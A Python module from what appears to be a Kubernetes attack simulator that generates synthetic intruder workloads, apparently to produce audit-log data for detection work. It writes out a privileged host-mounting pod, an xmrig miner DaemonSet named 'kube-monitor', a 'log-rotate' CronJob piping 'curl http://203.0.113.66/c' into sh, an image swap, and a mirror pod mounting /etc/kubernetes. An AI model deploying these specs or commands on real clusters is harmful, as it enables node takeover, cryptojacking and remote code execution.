"""An intruder with rights in, the workloads that it leaves running out.

Separate from its other changes: what runs has a life of its own, pods and jobs that the cluster
starts, until somebody finds it and takes it away.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import orjson

from models.simulate.chance import new_uuid
from models.simulate.people import people
from models.simulate.pipelines import jenkins
from models.simulate.pod_life import status_request, stop_pod
from models.simulate.record import Request
from models.simulate.rollout import change_request, deploy, install, plural_of, run_job
from models.simulate.status_bodies import POD_RUNNING
from models.simulate.timeline import HOUR, SECOND
from models.simulate.workload import Kind, Pod, Traits, Workload

if TYPE_CHECKING:
    from collections.abc import Iterator

    from models.simulate.cluster import Cluster
    from models.simulate.intruder import Intruder


def _workload(intruder: Intruder, kind: Kind, stem: str, image: str, traits: Traits) -> Workload:
    chance = intruder.chance
    namespace = intruder.namespace
    workload = Workload(
        kind=kind,
        namespace=namespace,
        name=intruder.mark(stem),
        uid=new_uuid(chance),
        account=intruder.cluster.account(namespace, "default"),
        image=image,
        replicas=2,
        traits=traits,
        tag="latest",
    )
    workload.label = intruder.label.derived()
    return workload


def _leave(intruder: Intruder, workload: Workload) -> Iterator[int]:
    """Make a workload; some hours later somebody finds and removes it."""
    cluster = intruder.cluster
    yield from install(cluster, workload, intruder.caller, intruder.label)
    found_us = cluster.now_us + int(intruder.chance.uniform(6, 30) * HOUR)
    cluster.spawn(_clean_up(cluster, workload), found_us)
    yield intruder.later()


def _clean_up(cluster: Cluster, workload: Workload) -> Iterator[int]:
    team = [one for one in people() if one.team.name == "platform"]
    person = team[len(workload.name) % len(team)]
    caller = person.caller(cluster.settings.seed, cluster.now_us)
    place = (workload.namespace, workload.name)
    cluster.workloads.remove(workload)
    cluster.send(caller, Request("get", plural_of(workload), *place), workload.label)
    yield cluster.now_us + 20 * SECOND
    cluster.send(caller, Request("delete", plural_of(workload), *place), workload.label)
    for pod in list(workload.pods):
        cluster.spawn(stop_pod(cluster, workload, pod, workload.label))


def run_privileged(intruder: Intruder) -> Iterator[int]:
    """Start a pod that owns its node."""
    traits = Traits(privileged=True, host_pid=True, host_paths=("/",), command=("sleep", "1d"))
    image = "docker.io/library/alpine"
    workload = _workload(intruder, Kind.DEPLOYMENT, "node-tools", image, traits)
    yield from _leave(intruder, workload)


def mine(intruder: Intruder) -> Iterator[int]:
    """Start a miner on every node."""
    traits = Traits(command=("./xmrig", "-o", "pool.example:3333"), cpu_millis=6_000)
    image = "docker.io/cool/worker"
    workload = _workload(intruder, Kind.DAEMON_SET, "kube-monitor", image, traits)
    yield from _leave(intruder, workload)


def leave_cron_job(intruder: Intruder) -> Iterator[int]:
    """Leave a job that comes back, and let it run."""
    command = ("sh", "-c", "curl -s http://203.0.113.66/c | sh")
    traits = Traits(command=command)
    image = "docker.io/curlimages/curl"
    workload = _workload(intruder, Kind.CRON_JOB, "log-rotate", image, traits)
    yield from _leave(intruder, workload)
    cluster = intruder.cluster
    while workload in cluster.workloads:
        yield cluster.now_us + HOUR // 2
        cluster.spawn(run_job(cluster, workload, workload.label))


def swap_image(intruder: Intruder) -> Iterator[int]:
    """Change the image of a deployment to another one."""
    workload = intruder.deployment()
    request = change_request(intruder.cluster, workload, "get")
    place = (workload.namespace, workload.name)
    intruder.ask(Request(request.verb, "deployments", *place))
    yield intruder.later()
    workload.image_override = f"docker.io/{workload.name}-mirror/{workload.name}:latest"
    workload.label = intruder.label.derived()
    cluster = intruder.cluster
    healed_us = cluster.now_us + int(intruder.chance.uniform(6, 30) * HOUR)
    cluster.spawn(_heal(cluster, workload), healed_us)
    yield from deploy(cluster, workload, intruder.caller, intruder.label)


def _heal(cluster: Cluster, workload: Workload) -> Iterator[int]:
    """Deploy the right image again, when somebody has noticed."""
    workload.image_override = ""
    yield from deploy(cluster, workload, jenkins(), workload.label)
    workload.label = None


def place_static_pod(intruder: Intruder) -> Iterator[int]:
    """Let a node's kubelet report a pod from a file that somebody put there: a mirror pod."""
    chance, cluster = intruder.chance, intruder.cluster
    node = chance.choice(cluster.nodes)
    pod = Pod(f"kube-sync-{node.name}", new_uuid(chance), node, node.address, cluster.now_us)
    intruder.episode.markers.append(pod.name)
    intruder.caller = node.caller
    traits = Traits(privileged=True, host_network=True, host_paths=("/etc/kubernetes",))
    image = "docker.io/library/alpine"
    intruder.namespace = "kube-system"
    workload = _workload(intruder, Kind.DAEMON_SET, "kube-sync", image, traits)
    body = orjson.dumps(_mirror(workload, pod))
    create = Request("create", "pods", "kube-system", pod.name, asked=body, answered=body)
    intruder.ask(create)
    yield cluster.now_us + 2 * SECOND
    intruder.ask(status_request(workload, pod, POD_RUNNING))
    yield intruder.later()


def _mirror(workload: Workload, pod: Pod) -> dict[str, Any]:
    """Return a mirror pod: made by its node, which it names as its owner."""
    owner = {"apiVersion": "v1", "kind": "Node", "name": pod.node.name, "controller": True}
    container = {
        "name": workload.name,
        "image": workload.image_name,
        "command": ["sh", "-c", "sleep 1d"],
        "securityContext": {"privileged": True},
        "volumeMounts": [{"name": "k8s", "mountPath": "/host"}],
    }
    marks = {
        "kubernetes.io/config.mirror": pod.uid.hex()[:32],
        "kubernetes.io/config.source": "file",
    }
    metadata = {
        "name": pod.name,
        "namespace": "kube-system",
        "uid": pod.uid.decode(),
        "annotations": marks,
        "ownerReferences": [owner | {"uid": pod.node.uid.decode()}],
    }
    spec = {
        "nodeName": pod.node.name,
        "hostNetwork": True,
        "containers": [container],
        "volumes": [{"name": "k8s", "hostPath": {"path": "/etc/kubernetes"}}],
        "restartPolicy": "Always",
    }
    return {"kind": "Pod", "apiVersion": "v1", "metadata": metadata, "spec": spec, "status": {}}
